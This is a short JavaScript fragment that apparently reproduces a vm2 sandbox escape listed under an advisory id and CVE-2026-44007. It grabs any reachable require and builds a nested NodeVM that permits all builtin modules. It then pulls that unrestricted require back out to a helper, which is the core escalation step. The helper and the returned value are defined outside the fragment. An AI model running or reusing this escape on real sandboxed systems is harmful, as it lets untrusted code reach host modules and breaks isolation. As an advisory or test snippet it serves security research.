// GHSA-8hg8-63c5-gwmx CVE-2026-44007
// A nested NodeVM is made with other permissions.
let load;
try { load = require; } catch {}
if (load) { try { const { NodeVM } = load('vm2'); await useRequire(new NodeVM({ require: { builtin: ['*'] } }).run('module.exports = require')); } catch {} }
return found;
